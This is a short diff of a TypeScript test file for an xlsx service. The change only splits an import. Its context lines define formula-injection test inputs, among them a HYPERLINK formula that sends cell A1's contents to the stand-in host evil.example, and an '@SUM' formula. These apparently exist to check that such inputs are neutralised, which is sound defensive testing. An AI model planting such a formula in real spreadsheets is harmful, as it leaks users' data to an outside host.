@@ -4,7 +4,8 @@ import ExcelJS from "exceljs";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import type { TestApp, TestClient } from "../app/testing.ts";
 import { setupTimeout, styrningTestApp } from "./testing.ts";
-import { MAX_VALUES_FILE_BYTES, XLSX_TYPE } from "./xlsx-service.ts";
+import { XLSX_TYPE } from "./vocabulary.ts";
+import { MAX_VALUES_FILE_BYTES } from "./xlsx-service.ts";
 
 const hyperlink = '=HYPERLINK("http://evil.example/?d="&A1,"Klicka")';
 const atSum = "@SUM(1)";
